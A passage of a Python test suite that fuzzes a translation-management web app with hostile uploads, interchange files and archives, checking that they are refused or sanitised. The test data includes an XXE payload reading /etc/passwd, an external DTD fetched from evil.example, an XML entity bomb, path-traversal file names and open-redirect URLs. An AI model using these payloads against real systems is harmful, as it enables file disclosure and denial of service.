    """A multipart/form-data body of (field name, file name or None, bytes), file names sent as given."""
    boundary = b"----HostileInputBoundary7MA4YWxkTrZu0gW"
    body = b""
    for name, filename, data in parts:
        disposition = b'Content-Disposition: form-data; name="' + as_bytes(name) + b'"'
        if filename is not None:
            disposition += b'; filename="' + as_bytes(filename) + b'"'
        content_type = b"\r\nContent-Type: application/octet-stream" if filename is not None else b""
        body += b"--" + boundary + b"\r\n" + disposition + content_type + b"\r\n\r\n" + as_bytes(data) + b"\r\n"
    body += b"--" + boundary + b"--\r\n"
    return body, f"multipart/form-data; boundary={boundary.decode()}"


@hostile(50)
@given(
    uploads=st.lists(
        st.tuples(st.one_of(st.sampled_from(HOSTILE_NAMES), st.text(max_size=30), st.just("page.png")), page_images()),
        max_size=3,
    ),
    field_name=st.sampled_from(["images", "images", "images", "image", ""]),
    htmx=st.booleans(),
)
@example(uploads=[("../../etc/passwd", png_bytes((9, 9, 9)))], field_name="images", htmx=True)
@example(uploads=[("\u202egnp.exe", png_bytes((8, 8, 8)))], field_name="images", htmx=True)
@example(uploads=[("page\x00.png", png_bytes((7, 7, 7)))], field_name="images", htmx=True)
@example(uploads=[("x" * 5000 + ".png", png_bytes((6, 6, 6)))], field_name="images", htmx=True)
@example(uploads=[("bomb.png", bomb_png())], field_name="images", htmx=True)
def test_image_upload_with_hostile_files_and_names(world, uploads, field_name, htmx):
    body, content_type = multipart([(field_name, name, data) for name, data in uploads])
    known = set(DocumentImage.objects.values_list("id", flat=True))
    url = reverse("image_upload", args=[world.project.slug, world.document.pk])
    attempt(world.client("translator"), "POST", url, body=body, content_type=content_type, htmx=htmx,
            accepted={200} if htmx else {303})
    for image in DocumentImage.objects.exclude(id__in=known):
        name = image.original_filename
        assert name and "/" not in name and "\\" not in name and name not in (".", "..") and len(name) <= 255, name
        assert not problem_with(name, allowed="", nfc=False), name
        assert all(unicodedata.category(char) != "Cf" for char in name), name


# --- Interchange import -------------------------------------------------------------------------------------

unit_text = st.one_of(plain_text, hostile_text, st.sampled_from(["\\ud800", "\\u0000", "&#0;", "&#xD800;", "&bogus;"]))
unit_ids = st.one_of(st.just("s{segment}"), st.sampled_from(["s0", "s-1", "s" + "9" * 30, "x", "", "s1 "]), hostile_text)
json_values = st.one_of(st.none(), st.booleans(), st.integers(-(10**30), 10**30), st.sampled_from(EDGE_NUMBERS), st.floats(), unit_text, st.lists(unit_text, max_size=2),
                        st.dictionaries(unit_text, unit_text, max_size=2))


def _xml(text, raw):
    return text if raw else escape(text)


def _po(text, raw):
    return text if raw else text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")


def xliff_file(units, raw):
    body = "".join(
        f'<trans-unit id="{_xml(uid, raw)}"><source>{_xml(src, raw)}</source>'
        + (f"<target>{_xml(tgt, raw)}</target>" if tgt is not None else "")
        + (f"<note>{_xml(note, raw)}</note>" if note else "")
        + "</trans-unit>"
        for uid, src, tgt, note in units
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">'
        f'<file source-language="ko" target-language="en" datatype="plaintext" original="x"><body>{body}</body>'
        "</file></xliff>\n"
    )


def xliff2_file(units, raw):
    body = "".join(
        f'<unit id="{_xml(uid, raw)}"><segment><source>{_xml(src, raw)}</source>'
        + (f"<target>{_xml(tgt, raw)}</target>" if tgt is not None else "")
        + "</segment></unit>"
        for uid, src, tgt, _ in units
    )
    return (f'<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="ko" trgLang="en">'
            f'<file id="f1">{body}</file></xliff>')


def tmx_file(units, raw):
    body = "".join(
        f'<tu tuid="{_xml(uid, raw)}"><tuv xml:lang="ko"><seg>{_xml(src, raw)}</seg></tuv>'
        + (f'<tuv xml:lang="en"><seg>{_xml(tgt, raw)}</seg></tuv>' if tgt is not None else "")
        + (f"<note>{_xml(note, raw)}</note>" if note else "")
        + "</tu>"
        for uid, src, tgt, note in units
    )
    return (f'<?xml version="1.0"?><!DOCTYPE tmx SYSTEM "tmx14.dtd"><tmx version="1.4"><header srclang="ko" '
            f'datatype="plaintext" segtype="sentence" adminlang="en" creationtool="t" creationtoolversion="1" '
            f'o-tmf="t"/><body>{body}</body></tmx>')


def po_file(units, raw):
    entries = "".join(
        (f"# {note}\n" if note else "")
        + f'msgctxt "{_po(uid, raw)}"\nmsgid "{_po(src, raw)}"\nmsgstr "{_po(tgt or "", raw)}"\n\n'
        for uid, src, tgt, note in units
    )
    return 'msgid ""\nmsgstr "Language: en\\n"\n\n' + entries


def csv_file(units, raw):
    import csv

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    if not raw:
        writer.writerow(["id", "source", "target", "note"])
    for row in units:
        writer.writerow([cell or "" for cell in row])
    return buffer.getvalue() + ('"unclosed' if raw else "")


def text_file(units, raw):
    return "\n".join(src for _, src, _, _ in units)


ENTITY_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;'
    '&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    '<xliff version="1.2"><file><body><trans-unit id="s1"><source>&lol3;</source></trans-unit></body></file></xliff>'
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><tmx version="1.4"><header '
    'srclang="ko"/><body><tu><tuv xml:lang="ko"><seg>&xxe;</seg></tuv></tu></body></tmx>'
)
PARAMETER_ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xliff/>'
SPECIAL_FILES = {
    "bomb.xlf": ENTITY_BOMB.encode(),
    "xxe.tmx": XXE.encode(),
    "param.xlf": PARAMETER_ENTITY.encode(),
    "lower.xlf": ENTITY_BOMB.replace("<!ENTITY", "<!entity").encode(),
    "deep.json": b"[" * 100_000 + b"]" * 100_000,
    "deep.xlf": b"<xliff>" + b"<g>" * 50_000 + b"</g>" * 50_000 + b"</xliff>",
    "many.txt": "줄\n".encode() * 20_001,
    "nul.po": b'msgid "a\x00b"\nmsgstr "c"\n',
    "utf16-no-bom.csv": "source,target\n가,a\n".encode("utf-16-le"),
    "latin1.csv": "source,target\ncafé,x\n".encode("latin-1"),
    "bom-only.txt": b"\xef\xbb\xbf",
    "utf32.json": '{"units": [{"source": "가"}]}'.encode("utf-32"),
    "surrogate.json": b'{"units": [{"id": "s1", "source": "\\ud800", "target": "\\udfff"}]}',
    "duplicate.json": b'{"units": [], "units": []}',
    "huge-number.json": b'{"units": [{"id": 1' + b"0" * 5000 + b', "source": "x"}]}',
}
TEMPLATES = {"xlf": xliff_file, "xliff": xliff2_file, "tmx": tmx_file, "po": po_file, "csv": csv_file,
             "txt": text_file}
ENCODINGS = ["utf-8", "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252",
             "shift_jis"]


@dataclass(frozen=True)
class FileRecipe:
    """A file made when the example runs, once the id of a real segment is known (``s{segment}``)."""

    text: str
    encoding: str
    mutation: str = "none"
    at: int = 0
    prefix: bytes = b""

    def bytes(self, context) -> bytes:
        text = self.text.replace("s{segment}", f"s{context['segment']}")
        try:
            data = text.encode(self.encoding, "surrogatepass")
        except UnicodeEncodeError:
            data = text.encode(self.encoding, "replace")
        if self.mutation == "truncate" and data:
            return data[: self.at % len(data)]
        if self.mutation == "nul":
            at = self.at % (len(data) + 1)
            return data[:at] + b"\x00" + data[at:]
        if self.mutation == "prefix":
            return self.prefix + data
        return data


@st.composite
def interchange_files(draw):
    """(file name, bytes or FileRecipe): random bytes, the hostile classics, or a file of some format with
    hostile units, in some encoding, perhaps cut short, with a NUL byte or with junk before it."""
    kind = draw(st.sampled_from(["bytes", "special", "json", *TEMPLATES, *TEMPLATES]))
    if kind == "bytes":
        return draw(st.sampled_from(["x.xlf", "x.po", "x.csv", "x.json", "x.tmx", "x.txt", "x", "x.bin"])), draw(
            st.binary(max_size=600))
    if kind == "special":
        name = draw(st.sampled_from(sorted(SPECIAL_FILES)))
        return name, SPECIAL_FILES[name]
    units = draw(st.lists(st.tuples(unit_ids, unit_text, st.one_of(st.none(), unit_text), st.one_of(st.just(""), unit_text)),
                          max_size=4))
    raw = draw(st.booleans())
    if kind == "json":
        records = [
            {"id": draw(st.one_of(st.just(uid), json_values)), "source": draw(st.one_of(st.just(src), json_values)),
             "target": tgt, "note": note}
            for uid, src, tgt, note in units
        ]
        shape = draw(st.sampled_from(["object", "list", "null"]))
        document = {"object": {"units": records}, "list": records, "null": {"units": None}}[shape]
        text = json.dumps(document, ensure_ascii=draw(st.booleans()))
        if raw:
            text = text.replace("\\\\u", "\\u")  # escapes of surrogates and NUL reach the reader as such
        name = "x.json"
    else:
        text = TEMPLATES[kind](units, raw)
        name = f"x.{kind}"
    recipe = FileRecipe(
        text=text,
        encoding=draw(st.sampled_from(ENCODINGS)),
        mutation=draw(st.sampled_from(["none", "none", "truncate", "nul", "prefix"])),
        at=draw(st.integers(0, 10**6)),
        prefix=draw(st.binary(min_size=1, max_size=8)),
    )
    name = draw(st.one_of(st.just(name), st.sampled_from(HOSTILE_NAMES), st.just(name + ".exe")))
    return name, recipe


def segment_context(world):
    ids = list(Segment.objects.filter(document=world.document, is_deleted=False).values_list("id", flat=True))
    return {"segment": ids[0] if ids else 1}


def _resolve_file(data, context) -> bytes:
    return data.bytes(context) if isinstance(data, FileRecipe) else data


@hostile(80)
@given(
    upload=interchange_files(),
    pairs=form(format=field(good=st.sampled_from(["auto", "auto", "xliff", "po", "csv", "json", "tmx", "text"])),
               split=field(good=st.sampled_from(["line", "sentence"])), language=field(good=st.just("en"))),
    confirm=st.sampled_from(["confirm", "confirm", "cancel", "none", "forged"]),
    who=st.sampled_from(["translator", "translator", "manager", "reviewer", "auditor"]),
)
@example(upload=("bomb.xlf", ENTITY_BOMB.encode()), pairs=[("format", "auto"), ("split", "line"), ("language", "en")],
         confirm="confirm", who="translator")
@example(upload=("surrogate.json", SPECIAL_FILES["surrogate.json"]),
         pairs=[("format", "auto"), ("split", "line"), ("language", "en")], confirm="confirm", who="translator")
@example(upload=("x.json", b'[{"source": "\\u0000"}]'), pairs=[("format", "json"), ("split", "line"), ("language", "en")],
         confirm="confirm", who="translator")
def test_interchange_import_of_hostile_files(world, upload, pairs, confirm, who):
    context = segment_context(world)
    name, data = upload
    client = world.client(who)
    url = reverse("document_import", args=[world.project.slug, world.document.pk])
    body, content_type = multipart([("file", name, _resolve_file(data, context)), *((n, None, v) for n, v in pairs)])
    # The upload only previews: it writes nothing, whatever the file.
    response = attempt(client, "POST", url, body=body, content_type=content_type)
    token = re.search(r'name="token" value="([^"]+)"', response.content.decode(errors="replace"))
    if confirm == "none" or (token is None and confirm != "forged"):
        return
    token = token.group(1) if token and confirm != "forged" else "A" * 43 + "\n"
    attempt(client, "POST", url, [("token", token), ("action", confirm if confirm != "forged" else "confirm")],
            accepted={302})


@hostile(25)
@given(upload=interchange_files(), dry_run=st.booleans())
def test_import_document_command_with_hostile_files(world, upload, dry_run, tmp_path_factory):
    name, data = upload
    path = tmp_path_factory.mktemp("import") / "upload.bin"
    path.write_bytes(_resolve_file(data, segment_context(world)))
    before = state()
    since = marks(before)
    options = {"actor": "translator", "format": "auto", "split": "line", "language": "en", "dry_run": dry_run}
    try:
        call_command("import_document", world.document.pk, path, stdout=io.StringIO(), **options)
    except CommandError:
        assert state() == before, "a refused import wrote something"
    else:
        if dry_run:
            assert state() == before, "a dry run wrote something"
    assert_stored_clean(since)


@hostile(20)
@given(token=st.one_of(hostile_text, st.text(alphabet="Aa0_-", min_size=43, max_size=43), st.just("../../etc/passwd")),
       action=field(good=st.sampled_from(["confirm", "cancel"])))
def test_interchange_confirmation_with_forged_tokens(world, token, action):
    url = reverse("document_import", args=[world.project.slug, world.document.pk])
    attempt(world.client("translator"), "POST", url, [("token", token), *(("action", a) for a in action)],
            accepted={302})


# --- Project archive import ---------------------------------------------------------------------------------------

ARCHIVE_VALUES = st.one_of(
    json_values, st.sampled_from([10**30, -(10**30), 2**63, -1, "\x00", "\x1b[2J", "\ud800", "e\u0301", "x" * 70_000,
                                  [], {}, "2024-02-30T00:00:00+00:00", "not a date", True, 1.5]),
)
ARCHIVE_MEMBER_NAMES = ["../evil", "/abs", "media/../../x", "a\x00b", "C:\\x", "media/" + "a" * 500,
                        "rows/../../../etc/passwd", "media/.hidden", "rows/x.jsonl", "manifest.json"]
slugs = itertools.count(1)


def rewrite(source: Path, target: Path, change, *, refresh_manifest=True):
    """Copy the archive at `source` to `target` with `change(name, bytes) -> bytes | None` applied to each
    member (None drops it); the manifest's sizes and SHA-256 are made to match again, so the change
    reaches the checks beyond them."""
    import hashlib

    with zipfile.ZipFile(source) as old:
        members = {info.filename: old.read(info) for info in old.infolist()}
    manifest = json.loads(members.pop("manifest.json"))
    changed = {}
    for name, data in members.items():
        result = change(name, data)
        if result is not None:
            changed[name] = result
    for name, data in change("*extra*", b"") or []:
        changed[name] = data
    if refresh_manifest:
        manifest["files"] = {
            name: {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()} for name, data in changed.items()
        }
    manifest = change("manifest.json", manifest) or manifest
    with zipfile.ZipFile(target, "w") as new, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": a second manifest.json is meant
        new.writestr("manifest.json", json.dumps(manifest))
        for name, data in changed.items():
            new.writestr(name, data)


@pytest.fixture
def archive(world, tmp_path):
    path = tmp_path / "project.zip"
    export_archive(world.project, path)
    return path


def _edit_line(data: bytes, line: int, key_index, value):
    lines = data.decode().splitlines(keepends=True)
    if not lines:
        return data, None
    number = line % len(lines)
    row = json.loads(lines[number])
    keys = sorted(row)
    key = key_index if isinstance(key_index, str) else keys[key_index % len(keys)]
    row[key] = value
    lines[number] = json.dumps(row) + "\n"
    return "".join(lines).encode(), (row.get("id"), key)


@st.composite
def archive_mutations(draw):
    kind = draw(st.sampled_from(["bytes", "truncate", "flip", "member", "field", "field", "field", "line", "manifest"]))
    return kind, draw(st.integers(0, 10**6)), draw(st.integers(0, 50)), draw(ARCHIVE_VALUES), draw(
        st.sampled_from(ARCHIVE_MEMBER_NAMES)), draw(st.binary(max_size=200)), draw(
        st.sampled_from(["users.jsonl", "rows/translations.segment.jsonl", "rows/translations.translation.jsonl",
                         "rows/translations.document.jsonl", "rows/reviews.comment.jsonl",
                         "rows/translations.documentimage.jsonl", "rows/translations.project.jsonl"]))


def _apply_mutation(archive: Path, target: Path, mutation):
    kind, number, index, value, member_name, junk, member = mutation
    original = archive.read_bytes()
    if kind == "bytes":
        target.write_bytes(junk)
    elif kind == "truncate":
        target.write_bytes(original[: number % len(original)])
    elif kind == "flip":
        data = bytearray(original)
        data[number % len(data)] ^= 1 << (index % 8)
        target.write_bytes(bytes(data))
    elif kind == "member":
        rewrite(archive, target, lambda name, data: [(member_name, junk)] if name == "*extra*" else
                (None if name == "manifest.json" else data))
    elif kind == "line":
        def change(name, data):
            if name == member:
                lines = data.splitlines(keepends=True) or [b""]
                lines[number % len(lines)] = junk + b"\n"
                return b"".join(lines)
            return None if name in ("*extra*", "manifest.json") else data
        rewrite(archive, target, change)
    elif kind == "manifest":
        def change(name, data):
            if name == "manifest.json":
                keys = sorted(data)
                data[keys[index % len(keys)]] = value
                return data
            return None if name == "*extra*" else data
        rewrite(archive, target, change)
    else:  # the same field of a row and of its latest history row, so the fingerprints still agree
        edited = {}

        def change(name, data):
            if name == member:
                data, edited["what"] = _edit_line(data, number, index, value)
                return data
            return None if name in ("*extra*", "manifest.json") else data

        rewrite(archive, target, change)
        if edited.get("what") and member.startswith("rows/"):
            object_id, key = edited["what"]
            history = member.replace("rows/", "history/")

            def change_history(name, data):
                if name != history:
                    return None if name in ("*extra*", "manifest.json") else data
                lines = data.decode().splitlines(keepends=True)
                for number_back in range(len(lines) - 1, -1, -1):
                    row = json.loads(lines[number_back])
                    if row.get("id") == object_id and key in row:
                        row[key] = value
                        lines[number_back] = json.dumps(row) + "\n"
                        break
                return "".join(lines).encode()

            rewrite(target, target.with_suffix(".2.zip"), change_history)
            target.with_suffix(".2.zip").replace(target)


@hostile(20)
@given(mutation=archive_mutations(), hostile_slug=st.one_of(st.none(), path_text))
@example(mutation=("field", 0, "position", 10**30, "", b"", "rows/translations.segment.jsonl"), hostile_slug=None)
@example(mutation=("field", 0, "source_text", "\ud800", "", b"", "rows/translations.segment.jsonl"), hostile_slug=None)
@example(mutation=("field", 0, "source_text", "\x1b[2J", "", b"", "rows/translations.segment.jsonl"), hostile_slug=None)
@example(mutation=("member", 0, 0, None, "../evil", b"x", ""), hostile_slug=None)
def test_project_archive_import_of_hostile_archives(world, archive, tmp_path, mutation, hostile_slug):
    target = tmp_path / "hostile.zip"
    try:
        _apply_mutation(archive, target, mutation)
    except (ValueError, UnicodeError, zipfile.BadZipFile):
        return  # the mutation could not be written as a zip (e.g. a NUL in a member name)
    slug = hostile_slug if hostile_slug is not None else f"copy-{next(slugs)}"
    before = state()
    since = marks(before)
    try:
        call_command("import_project", str(target), slug=slug, stdout=io.StringIO())
    except CommandError:
        assert difference(before, state()) == {}, "a refused archive wrote something"
    else:
        assert Project.objects.filter(slug=slug).exists()
    # An archive restores text as it was archived (fidelity), so NFC is not re-checked here;
    # control characters other than tab and newlines, and unpaired surrogates, must not arrive.
    assert_stored_clean(since, allowed="\t\n\r", nfc=False)


def test_an_unaltered_archive_still_imports(world, archive):
    call_command("import_project", str(archive), slug="copy-plain", stdout=io.StringIO())
    assert Project.objects.filter(slug="copy-plain").exists()


# --- Joining segments without a space (Chinese, Japanese) -----------------------------------------------------------


def japanese_project(world, slug):
    project = services.project_create(user=world.users["admin"], name=slug, slug=slug, source_language="ja",
                                      target_languages=["en"])
    services.membership_set(project=project, user=world.users["admin"], member=world.users["manager"], role="manager")
    return project


@hostile(20)
@given(first=plain_text, second=st.one_of(plain_text, plain_text.map(lambda text: "\u3099" + text),
                                          plain_text.map(lambda text: "\u0301" + text)))
@example(first="か", second="\u3099ね")
def test_merging_segments_of_a_japanese_document_stores_nfc(world, first, second):
    project = japanese_project(world, f"ja-{next(slugs)}")
    document = services.document_create(project=project, user=world.users["manager"], title="手紙")
    try:
        head = services.segment_create(document=document, user=world.users["manager"], source_text=first)
        services.segment_create(document=document, user=world.users["manager"], source_text=second)
    except InvalidText:
        return  # not a transcription the editor accepts: nothing to merge
    following = document.segments.get(position=2)
    url = reverse("segment_merge", args=[project.slug, head.pk])
    attempt(world.client("manager"), "POST", url, [("base_version", str(head.version)),
                                                   ("next_base_version", str(following.version))],
            htmx=True, accepted={200})


# --- Regressions: each bug these tests found, as a plain test ----------------------------------------------------------


def test_a_decision_whose_next_is_not_one_of_our_pages_goes_back_to_the_queue(world):
    client = world.client("reviewer")
    for target in ("nowhere", "https://evil.example/", "//evil.example/x"):
        translation = Translation.objects.get(pk=world.submitted.pk)
        response = client.post(reverse("review_decide", args=[translation.pk]),
                               {"decision": "request_changes", "version": translation.version, "comment": "Why?",
                                "next": target})
        assert response.status_code == 302 and response["Location"] == reverse("review_queue")
    response = client.post(reverse("review_decide", args=[world.submitted.pk]),
                           {"decision": "approve", "version": 1, "next": "/review/?page=2"})
    assert response.status_code == 302 and response["Location"] == "/review/?page=2"


@pytest.mark.parametrize("item", ["1:²", "²:1", "99999999999999999999999999999:1", "1:" + "9" * 5000])
def test_bulk_decisions_ignore_items_that_are_not_ids_a_database_can_hold(world, item):
    client = world.client("reviewer")
    before = state()
    response = client.post(reverse("review_bulk"), {"decision": "approve", "item": item})
    assert response.status_code == 303 and state() == before  # "Select at least one translation"


@pytest.mark.parametrize("membership", ["abc", "", "1.5", str(10**30)])
def test_a_final_editor_change_naming_no_membership_of_the_project_is_a_404(world, membership):
    response = world.client("manager").post(reverse("project_policy", args=[world.project.slug]),
                                            {"form": "final_editor", "membership": membership, "is_final_editor": "on"})
    assert response.status_code == 404


def test_a_policy_change_whose_reason_holds_a_control_character_is_refused(world):
    before = state()
    response = world.client("manager").post(reverse("project_policy", args=[world.project.slug]),
                                            {"form": "policy", "required_approvals": "2", "reason": "\x1b[2Jwhy"})
    assert response.status_code == 200 and "control character (U+001B)" in response.content.decode()
    assert state() == before


def test_a_provenance_edit_whose_reason_holds_a_control_character_is_refused(world):
    before = state()
    response = world.client("manager").post(
        reverse("document_edit", args=[world.project.slug, world.document.pk]),
        {"title": "Renamed", "authenticity": "unverified", "reason": "fixed\x07"},
    )
    assert response.status_code == 200 and "control character (U+0007)" in response.content.decode()
    assert state() == before


def test_text_with_an_unpaired_surrogate_is_refused_as_not_a_character():
    from translations.texts import normalise

    with pytest.raises(InvalidText, match=r"unpaired surrogate \(U\+D800\) at position 2"):
        normalise("a\ud800", field="text")


def test_an_import_whose_json_escapes_an_unpaired_surrogate_is_refused_naming_the_unit(world):
    before = state()
    upload = SimpleUploadedFile("notes.json", b'{"units": [{"id": "u1", "source": "\\ud800"}]}')
    response = world.client("translator").post(
        reverse("document_import", args=[world.project.slug, world.document.pk]),
        {"file": upload, "format": "auto", "split": "line", "language": "en"},
    )
    assert response.status_code == 400
    assert "Unit “u1”: the source text contains an unpaired surrogate" in response.content.decode()
    assert state() == before


@pytest.mark.parametrize("value", ["\x1b[2J", "\ud800"])
def test_an_archive_with_a_control_character_or_surrogate_in_a_text_is_refused_naming_the_line(
    world, archive, tmp_path, value
):
    target = tmp_path / "altered.zip"
    _apply_mutation(archive, target, ("field", 0, "source_text", value, "", b"", "rows/translations.segment.jsonl"))
    before = state()
    with pytest.raises(CommandError, match=r"rows/translations\.segment\.jsonl line 1: source_text: contains the "
                                           r"character U\+(001B|D800) at position 1"):
        call_command("import_project", str(target), slug="copy-altered", stdout=io.StringIO())
    assert state() == before


def test_merging_japanese_segments_whose_join_composes_stores_the_composed_text(world):
    project = japanese_project(world, "letters-ja")
    manager = world.users["manager"]
    document = services.document_create(project=project, user=manager, title="手紙")
    head = services.segment_create(document=document, user=manager, source_text="か")
    tail = services.segment_create(document=document, user=manager, source_text="\u3099ね")
    merged = services.segment_merge(segment=head, user=manager, base_version=head.version,
                                    next_base_version=tail.version)
    assert merged.source_text == "がね"


@pytest.mark.parametrize("view, params", [
    ("audit_trail", {"q": "\x00"}),
    ("audit_trail", {"actor": "a\x00b", "project": "\x00"}),
    ("review_queue", {"translator": "\x00", "project": "a\x00", "language": "\x00"}),
    ("project_dashboard", {"q": "x\x00"}),
])
def test_filters_holding_a_nul_are_ignored_rather_than_sent_to_the_database(world, view, params):
    args = [world.project.slug] if view == "project_dashboard" else []
    response = world.client("admin").get(reverse(view, args=args), params)
    assert response.status_code == 200


def test_a_login_with_an_overlong_username_is_refused_not_a_server_error(world):
    response = world.client("anonymous").post(reverse("login"), {"username": "u" * 300, "password": "x"})
    assert response.status_code == 200 and getattr(response, "exc_info", None) is None


@pytest.mark.parametrize("digits", ["1" + "0" * 18, "9" * 30, "18446744073709551616"])
def test_an_id_too_long_for_any_row_is_not_found_without_reaching_the_database(world, digits):
    url = f"/p/{world.project.slug}/s/{digits}/comments/"
    response = world.client("admin").get(url)
    assert response.status_code == 404
